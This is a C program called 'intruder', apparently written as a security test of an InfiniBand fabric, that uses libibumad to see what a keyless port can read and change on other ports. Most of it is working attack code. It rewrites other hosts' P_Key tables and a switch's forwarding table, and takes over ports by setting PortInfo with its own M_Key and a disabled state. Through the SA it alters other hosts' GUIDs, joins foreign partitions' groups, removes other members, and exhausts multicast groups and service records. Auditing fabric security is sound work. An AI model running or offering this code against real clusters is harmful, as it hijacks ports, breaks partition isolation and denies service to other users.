// SPDX-License-Identifier: Apache-2.0
/*
 * intruder smp|sa ROUTE...: what a program on this port of the fabric, that knows no key, can read
 * of other ports and change about them by SMPs, or gets from the SA. A route is that of smpquery -D
 * ("0,1,3"); the first is the subnet manager's host, the second a switch, all further ones hosts.
 *
 * intruder write ROUTE...: what it can change by the SA. Of the hosts the first is its own, which
 * is in the partition OWN_KEY; the second is in FOREIGN_KEY alone; the third in both, and has joined
 * the group of OWN_KEY before by `intruder join`. No partition has FREE_KEY.
 *
 * intruder join KEY: this port joins the broadcast group of that partition.
 * intruder group KEY OWN: it makes the broadcast group of KEY, with OWN as its P_Key.
 *
 * One line each: what was asked, a tabulator, what came of it. What hosts and switches answer alike
 * is one line; where they differ each difference is told.
 */
#include <endian.h>
#include <infiniband/mad.h>
#include <infiniband/umad.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TIMEOUT_MS 300
#define SA_TIMEOUT_MS 700 /* it answers out of the subnet manager */
#define LAST_LID 16
#define TAKEN UINT64_C(0x6261640000000001) /* the M_Key that it would give a port */
#define FOREIGN_PKEY 0x8abcu
#define FOREIGN_BLOCK 1 /* of a P_Key table: opensm uses the first alone in so small a subnet */
#define UNUSED_LIDS 5   /* a block of a switch's forwarding table that no port is in */
#define DEFAULT_SA_KEY 1
#define OWN_KEY 0x0101u
#define FOREIGN_KEY 0x0102u
#define FREE_KEY 0x0103u
#define SERVICES 1000u
#define GROUPS_MAX 0x4000u /* LIDs of multicast groups: 0xc000 to 0xfffe */

static int port_id, smp_agent, sa_agent;
static unsigned sm_lid;
static uint64_t port_guid;
static uint64_t transaction = 0x1000;
static uint8_t answer[1024];

/* ---- sending --------------------------------------------------------------------------------- */

/* True: an answer came, with its header at answer + umad_size(). */
static bool exchange(int agent, void *umad, int timeout_ms)
{
    const uint64_t wanted = transaction & 0xffffffff;
    if (umad_send(port_id, agent, umad, IB_MAD_SIZE, timeout_ms, 0) < 0)
        return false;
    for (;;) {
        int length = IB_MAD_SIZE;
        if (umad_recv(port_id, answer, &length, timeout_ms) < 0)
            return false;
        uint8_t *mad = umad_get_mad(answer);
        if ((mad_get_field64(mad, 0, IB_MAD_TRID_F) & 0xffffffff) == wanted)
            return umad_status(answer) == 0;
    }
}

struct smp {
    uint8_t method;
    uint16_t attribute;
    uint32_t modifier;
    uint64_t key;
    const uint8_t *data; /* of a Set */
};

static unsigned parse_route(const char *route, uint8_t *path)
{
    unsigned hops = 0;
    for (const char *rest = strchr(route, ','); rest; rest = strchr(rest + 1, ','))
        path[++hops] = (uint8_t)strtoul(rest + 1, NULL, 10);
    return hops;
}

/* The answer's data; NULL: none came, or a refusal. */
static uint8_t *ask(const char *route, const struct smp *smp)
{
    uint8_t request[1024] = {0}, path[IB_SUBNET_PATH_HOPS_MAX] = {0};
    uint8_t *mad = umad_get_mad(request);
    mad[0] = 1;
    mad[1] = IB_SMI_DIRECT_CLASS;
    mad[2] = 1;
    mad[3] = smp->method;
    mad[7] = (uint8_t)parse_route(route, path);
    mad_set_field64(mad, 0, IB_MAD_TRID_F, ++transaction);
    mad_set_field(mad, 0, IB_MAD_ATTRID_F, smp->attribute);
    mad_set_field(mad, 0, IB_MAD_ATTRMOD_F, smp->modifier);
    mad_set_field64(mad, 0, IB_MAD_MKEY_F, smp->key);
    mad_set_field(mad, 0, IB_DRSMP_DRDLID_F, 0xffff);
    mad_set_field(mad, 0, IB_DRSMP_DRSLID_F, 0xffff);
    memcpy(mad + 128, path, sizeof path);
    if (smp->data)
        memcpy(mad + IB_SMP_DATA_OFFS, smp->data, IB_SMP_DATA_SIZE);
    umad_set_addr(request, 0xffff, 0, 0, 0);
    if (!exchange(smp_agent, request, TIMEOUT_MS))
        return NULL;
    uint8_t *came = umad_get_mad(answer);
    const bool refused = mad_get_field(came, 0, IB_DRSMP_STATUS_F) != 0;
    return refused ? NULL : came + IB_SMP_DATA_OFFS;
}

/* ---- subnet management ----------------------------------------------------------------------- */

enum place { SM_HOST = 1, SWITCH = 2, HOSTS = 4 };

struct question {
    const char *name;
    uint16_t attribute;
    uint32_t modifier;
    unsigned places;
    const char *(*tell)(uint8_t *data); /* NULL: that it was answered */
};

static const char *tell_key(uint8_t *data)
{
    return mad_get_field64(data, 0, IB_PORT_MKEY_F) ? "the key" : "0";
}

static const char *tell_sm_key(uint8_t *data)
{
    return mad_get_field64(data, 0, IB_SMINFO_KEY_F) ? "with the SM_Key" : "without the SM_Key";
}

static const struct question questions[] = {
    {"Get(NodeInfo)", IB_ATTR_NODE_INFO, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(NodeDescription)", IB_ATTR_NODE_DESC, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(SwitchInfo)", IB_ATTR_SWITCH_INFO, 0, SWITCH, NULL},
    {"Get(GUIDInfo)", IB_ATTR_GUID_INFO, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(P_KeyTable)", IB_ATTR_PKEY_TBL, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(SLtoVLMappingTable)", IB_ATTR_SLVL_TABLE, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(LinearForwardingTable)", IB_ATTR_LINEARFORWTBL, 0, SWITCH, NULL},
    {"Get(MulticastForwardingTable)", IB_ATTR_MULTICASTFORWTBL, 0, SWITCH, NULL},
    {"Get(PortInfo): its M_Key", IB_ATTR_PORT_INFO, 0, SM_HOST | SWITCH | HOSTS, tell_key},
    {"Get(SMInfo) of the master", IB_ATTR_SMINFO, 0, SM_HOST, tell_sm_key},
};

static unsigned place_of(int index)
{
    return index == 0 ? SM_HOST : index == 1 ? SWITCH : HOSTS;
}

static const char *result_of(const char *route, const struct question *question)
{
    const struct smp smp = {IB_MAD_METHOD_GET, question->attribute, question->modifier, 0, NULL};
    uint8_t *data = ask(route, &smp);
    if (!data)
        return "silence";
    return question->tell ? question->tell(data) : "answered";
}

static void put_question(const struct question *question, char **routes, int count)
{
    const char *first = NULL;
    printf("%s\t", question->name);
    for (int i = 0; i < count; i++) {
        if (!(question->places & place_of(i)))
            continue;
        const char *result = result_of(routes[i], question);
        if (!first || strcmp(first, result) != 0)
            printf("%s%s", first ? " / " : "", result);
        first = result;
    }
    printf("\n");
}

/* ---- changing -------------------------------------------------------------------------------- */

static bool set_pkey(const char *route, uint64_t key)
{
    uint8_t data[IB_SMP_DATA_SIZE] = {FOREIGN_PKEY >> 8, FOREIGN_PKEY & 0xff};
    const struct smp smp = {IB_MAD_METHOD_SET, IB_ATTR_PKEY_TBL, FOREIGN_BLOCK, key, data};
    return ask(route, &smp) != NULL;
}

static bool set_forwarding(const char *route)
{
    uint8_t data[IB_SMP_DATA_SIZE];
    memset(data, 1, sizeof data);
    const struct smp smp = {IB_MAD_METHOD_SET, IB_ATTR_LINEARFORWTBL, UNUSED_LIDS, 0, data};
    return ask(route, &smp) != NULL;
}

/* What no port reveals is left zero. */
static bool set_port_info(const char *route, uint64_t key)
{
    uint8_t data[IB_SMP_DATA_SIZE] = {0};
    const struct smp get = {IB_MAD_METHOD_GET, IB_ATTR_PORT_INFO, 0, key, NULL};
    const uint8_t *now = ask(route, &get);
    if (now)
        memcpy(data, now, sizeof data);
    mad_set_field64(data, 0, IB_PORT_MKEY_F, TAKEN);
    mad_set_field(data, 0, IB_PORT_STATE_F, 0);
    mad_set_field(data, 0, IB_PORT_PHYS_STATE_F, 0);
    const struct smp set = {IB_MAD_METHOD_SET, IB_ATTR_PORT_INFO, 0, key, data};
    return ask(route, &set) != NULL;
}

static uint64_t key_shown_by(const char *route)
{
    const struct smp smp = {IB_MAD_METHOD_GET, IB_ATTR_PORT_INFO, 0, 0, NULL};
    uint8_t *data = ask(route, &smp);
    return data ? mad_get_field64(data, 0, IB_PORT_MKEY_F) : 0;
}

static const char *told(int obeyed, int asked)
{
    return obeyed == 0 ? "silence" : obeyed == asked ? "obeyed" : "obeyed by some";
}

static void change(char **routes, int count)
{
    int pkey = 0, with_shown = 0, info = 0;
    for (int i = 2; i < count; i++)
        pkey += set_pkey(routes[i], 0);
    printf("Set(P_KeyTable)\t%s\n", told(pkey, count - 2));
    printf("Set(LinearForwardingTable)\t%s\n", told(set_forwarding(routes[1]), 1));
    for (int i = 2; i < count; i++)
        with_shown += set_pkey(routes[i], key_shown_by(routes[i]));
    printf("Set(P_KeyTable) with the M_Key that PortInfo shows\t%s\n", told(with_shown, count - 2));
    /* The last: whoever has done this has taken the port. */
    for (int i = 1; i < count; i++)
        info += set_port_info(routes[i], 0);
    printf("Set(PortInfo) with an M_Key of its own\t%s\n", told(info, count - 1));
}

/* ---- subnet administration ------------------------------------------------------------------- */

struct sa_request {
    uint8_t method;
    uint16_t attribute;
    uint64_t mask, sm_key;
    uint8_t record[200];
};

enum outcome { DONE, REFUSED, SILENCE };

/* *record: of what is done. */
static enum outcome ask_sa(const struct sa_request *asked, uint8_t **record)
{
    uint8_t request[1024] = {0};
    uint8_t *mad = umad_get_mad(request);
    mad[0] = 1;
    mad[1] = IB_SA_CLASS;
    mad[2] = 2;
    mad[3] = asked->method;
    mad_set_field64(mad, 0, IB_MAD_TRID_F, ++transaction);
    mad_set_field(mad, 0, IB_MAD_ATTRID_F, asked->attribute);
    mad_set_field64(mad, 0, IB_SA_MKEY_F, asked->sm_key);
    mad_set_field64(mad, 0, IB_SA_COMPMASK_F, asked->mask);
    memcpy(mad + IB_SA_DATA_OFFS, asked->record, sizeof asked->record);
    umad_set_addr(request, (int)sm_lid, 1, 0, (int)IB_DEFAULT_QP1_QKEY);
    *record = NULL;
    if (!exchange(sa_agent, request, SA_TIMEOUT_MS))
        return SILENCE;
    uint8_t *came = umad_get_mad(answer);
    if (mad_get_field(came, 0, IB_MAD_STATUS_F) != 0)
        return REFUSED;
    *record = came + IB_SA_DATA_OFFS;
    return DONE;
}

static void put16(uint8_t *to, unsigned value)
{
    to[0] = (uint8_t)(value >> 8);
    to[1] = (uint8_t)value;
}

static void put64(uint8_t *to, uint64_t value)
{
    for (int i = 0; i < 8; i++)
        to[i] = (uint8_t)(value >> (56 - 8 * i));
}

static uint64_t get64(const uint8_t *from)
{
    uint64_t value = 0;
    for (int i = 0; i < 8; i++)
        value = value << 8 | from[i];
    return value;
}

/* The first record; NULL: none. */
static uint8_t *list_of_sa(uint16_t attribute, uint64_t mask, unsigned lid, uint64_t sm_key,
                           bool *silent)
{
    uint8_t *record;
    struct sa_request request = {IB_MAD_METHOD_GET_TABLE, attribute, mask, sm_key, {0}};
    put16(request.record, lid);
    *silent = ask_sa(&request, &record) == SILENCE;
    return record && mad_get_field(umad_get_mad(answer), 0, IB_SA_ATTROFFS_F) ? record : NULL;
}

static const struct {
    const char *name;
    uint16_t attribute;
} records[] = {
    {"NodeRecord", IB_SA_ATTR_NODERECORD},
    {"SwitchInfoRecord", 0x14},
    {"LinkRecord", IB_SA_ATTR_LINKRECORD},
    {"LinearForwardingTableRecord", 0x15},
    {"SMInfoRecord", 0x18},
    {"MCMemberRecord", IB_SA_ATTR_MCRECORD},
    {"SLtoVLMappingTableRecord", 0x13},
    {"GUIDInfoRecord", 0x30},
};

static void ask_records(uint64_t sm_key)
{
    for (size_t i = 0; i < sizeof records / sizeof *records; i++) {
        bool silent;
        uint8_t *record = list_of_sa(records[i].attribute, 0, 0, sm_key, &silent);
        printf("%s\t%s\n", records[i].name, record ? "records" : silent ? "silence" : "none");
    }
}

/* Of each port that the SA knows. */
static void ask_ports(uint64_t sm_key)
{
    unsigned infos = 0, keys = 0, tables = 0, answers = 0;
    for (unsigned lid = 1; lid <= LAST_LID && (lid == 1 || answers); lid++) {
        bool silent;
        /* LID alone, or with the block (bit 2) 0, which the record's zeros say. */
        uint8_t *info = list_of_sa(IB_SA_ATTR_PORTINFORECORD, 1, lid, sm_key, &silent);
        answers += !silent;
        infos += info != NULL;
        /* PortInfo comes behind the LID, the port's number and an octet. */
        keys += info && mad_get_field64(info + 4, 0, IB_PORT_MKEY_F) != 0;
        uint8_t *table = list_of_sa(IB_SA_ATTR_PKEYTABLERECORD, 1, lid, sm_key, &silent);
        answers += !silent;
        tables += table != NULL;
    }
    printf("PortInfoRecord: the ports' M_Keys\t%s\n", !answers ? "silence"
                                                      : keys   ? "the keys"
                                                      : infos  ? "0"
                                                               : "none");
    printf("P_KeyTableRecord\t%s\n", !answers ? "silence" : tables ? "records" : "none");
}

static void ask_all_of_sa(uint64_t sm_key)
{
    ask_records(sm_key);
    ask_ports(sm_key);
}

/* ---- changing by the SA ---------------------------------------------------------------------- */

static const char *const outcomes[] = {
    [DONE] = "done", [REFUSED] = "refused", [SILENCE] = "silence"};

static void tell(const char *what, enum outcome outcome)
{
    printf("%s\t%s\n", what, outcomes[outcome]);
}

/* A port as the subnet manager knows it. */
static unsigned lid_of(const char *route)
{
    const struct smp smp = {IB_MAD_METHOD_GET, IB_ATTR_PORT_INFO, 0, 0, NULL};
    uint8_t *data = ask(route, &smp);
    return data ? mad_get_field(data, 0, IB_PORT_LID_F) : 0;
}

static uint64_t guid_of(const char *route)
{
    const struct smp smp = {IB_MAD_METHOD_GET, IB_ATTR_NODE_INFO, 0, 0, NULL};
    uint8_t *data = ask(route, &smp);
    return data ? mad_get_field64(data, 0, IB_NODE_PORT_GUID_F) : 0;
}

#define GID_PREFIX UINT64_C(0xfe80000000000000)
/* Of an MCMemberRecord: MGID, PortGID, JoinState; and what a group that is made needs besides:
 * Q_Key, TClass, P_Key, SL, FlowLabel. */
#define JOINS UINT64_C(0x10003)
#define MAKES (JOINS | UINT64_C(0x30c4))
#define FULL_MEMBER 1u
#define LINK_LOCAL 2u

/* ff12:401b:KEY::ID, IPoIB's for IPv4; or, with signature 0, some other. */
static struct sa_request group_request(uint8_t method, uint16_t signature, unsigned key,
                                       uint32_t id, uint64_t member)
{
    struct sa_request request = {method, IB_SA_ATTR_MCRECORD, JOINS, 0, {0}};
    put16(request.record, 0xff12);
    put16(request.record + 2, signature);
    put16(request.record + 4, key | 0x8000);
    put64(request.record + 8, id);
    put64(request.record + 16, GID_PREFIX);
    put64(request.record + 24, member);
    request.record[48] = LINK_LOCAL << 4 | FULL_MEMBER;
    return request;
}

#define BROADCAST 0xffffffff
#define ALL_HOSTS 1 /* 224.0.0.1 */
#define IPOIB 0x401b

static enum outcome send_group(struct sa_request *request)
{
    uint8_t *record;
    return ask_sa(request, &record);
}

static enum outcome join_group(unsigned key)
{
    struct sa_request request = group_request(IB_MAD_METHOD_SET, IPOIB, key, BROADCAST, port_guid);
    return send_group(&request);
}

static enum outcome take_out(unsigned key, uint64_t member)
{
    struct sa_request request = group_request(IB_MAD_METHOD_DELETE, IPOIB, key, BROADCAST, member);
    return send_group(&request);
}

/* The group has the P_Key of its own partition, whatever its MGID says. */
static enum outcome make_group(uint16_t signature, unsigned key, uint32_t id, unsigned own)
{
    struct sa_request request = group_request(IB_MAD_METHOD_SET, signature, key, id, port_guid);
    request.mask = MAKES;
    request.record[35] = 0x1b; /* Q_Key 0x0b1b, as IPoIB's */
    request.record[34] = 0x0b;
    put16(request.record + 40, own | 0x8000);
    return send_group(&request);
}

static enum outcome make_all_groups(void)
{
    for (uint32_t id = 1; id <= GROUPS_MAX; id++) {
        const enum outcome outcome = make_group(0, OWN_KEY, id, OWN_KEY);
        if (outcome != DONE)
            return outcome;
    }
    return DONE;
}

/* GUID 1 of the port's table, in block 0: LID, block and that GUID count. */
static enum outcome change_guid(uint8_t method, unsigned lid, uint64_t guid)
{
    uint8_t *record;
    struct sa_request request = {method, 0x30, 0x23, 0, {0}};
    put16(request.record, lid);
    put64(request.record + 8 + 8, guid);
    const enum outcome outcome = ask_sa(&request, &record);
    const uint64_t now = outcome == DONE ? get64(record + 8 + 8) : 0;
    const uint64_t wanted = method == IB_MAD_METHOD_DELETE ? 0 : guid;
    return outcome == DONE && now != wanted ? REFUSED : outcome;
}

/* ServiceID, ServiceGID, P_Key and lease, for ever. */
static enum outcome offer_services(void)
{
    enum outcome outcome = DONE;
    for (unsigned id = 1; id <= SERVICES && outcome == DONE; id++) {
        uint8_t *record;
        struct sa_request request = {IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICERECORD, 0x17, 0, {0}};
        put64(request.record, id);
        put64(request.record + 8, GID_PREFIX);
        put64(request.record + 16, port_guid);
        put16(request.record + 24, OWN_KEY | 0x8000);
        memset(request.record + 28, 0xff, 4);
        outcome = ask_sa(&request, &record);
    }
    return outcome;
}

static void write_guids(char **hosts)
{
    const unsigned own = lid_of(hosts[0]), foreign = lid_of(hosts[1]), common = lid_of(hosts[2]);
    tell("Set(GUIDInfoRecord) of its own host's port", change_guid(IB_MAD_METHOD_SET, own, 0xa1));
    tell("Set(GUIDInfoRecord) of another host's that is in its partition, too",
         change_guid(IB_MAD_METHOD_SET, common, 0xa2));
    tell("Delete(GUIDInfoRecord) of that GUID", change_guid(IB_MAD_METHOD_DELETE, common, 0xa2));
    tell("Set(GUIDInfoRecord) of a host's that is not in its partition",
         change_guid(IB_MAD_METHOD_SET, foreign, 0xa3));
}

static void write_groups(char **hosts)
{
    tell("Set(MCMemberRecord): it joins the group of a partition that its port is not in",
         join_group(FOREIGN_KEY));
    tell("Delete(MCMemberRecord): it takes another host's port out of a group",
         take_out(OWN_KEY, guid_of(hosts[2])));
    tell("Set(MCMemberRecord): it makes another group with such a partition's MGID",
         make_group(IPOIB, FOREIGN_KEY, ALL_HOSTS, OWN_KEY));
    tell("Set(MCMemberRecord): it makes the IPoIB group of a partition that there is not yet",
         make_group(IPOIB, FREE_KEY, BROADCAST, OWN_KEY));
    tell("Set(MCMemberRecord): it makes groups, until there is none left for anybody",
         make_all_groups() == REFUSED ? DONE : REFUSED);
}

static void write_by_sa(char **hosts)
{
    write_guids(hosts);
    write_groups(hosts);
    printf("Set(ServiceRecord), %u of them\t%s\n", SERVICES, outcomes[offer_services()]);
}

static int be_in_group(int argc, char **argv)
{
    const unsigned key = (unsigned)strtoul(argv[2], NULL, 0);
    const enum outcome outcome =
        argc == 3 ? join_group(key)
                  : make_group(IPOIB, key, BROADCAST, (unsigned)strtoul(argv[3], NULL, 0));
    printf("%s\n", outcomes[outcome]);
    return outcome == DONE ? 0 : 1;
}

/* ---- all of it ------------------------------------------------------------------------------- */

static bool open_port(void)
{
    umad_port_t port;
    if (umad_init() < 0 || umad_get_port(NULL, 0, &port) < 0)
        return false;
    sm_lid = port.sm_lid;
    port_guid = be64toh(port.port_guid);
    umad_release_port(&port);
    port_id = umad_open_port(NULL, 0);
    smp_agent = umad_register(port_id, IB_SMI_DIRECT_CLASS, 1, 0, NULL);
    sa_agent = umad_register(port_id, IB_SA_CLASS, 2, 1, NULL);
    return port_id >= 0 && smp_agent >= 0 && sa_agent >= 0;
}

int main(int argc, char **argv)
{
    if (argc < 3 || !open_port()) {
        fprintf(stderr, "usage: intruder smp|sa|write SM-ROUTE SWITCH-ROUTE HOST-ROUTE..., or "
                        "intruder join KEY, or group KEY OWN, on a fabric's port\n");
        return 2;
    }
    if (strcmp(argv[1], "join") == 0 || strcmp(argv[1], "group") == 0)
        return be_in_group(argc, argv);
    if (strcmp(argv[1], "write") == 0) {
        write_by_sa(argv + 4);
        return 0;
    }
    if (strcmp(argv[1], "sa") == 0) {
        printf("# SM_Key 0\n");
        ask_all_of_sa(0);
        printf("# SM_Key 1\n");
        ask_all_of_sa(DEFAULT_SA_KEY);
        return 0;
    }
    for (size_t i = 0; i < sizeof questions / sizeof *questions; i++)
        put_question(&questions[i], argv + 2, argc - 2);
    change(argv + 2, argc - 2);
    return 0;
}
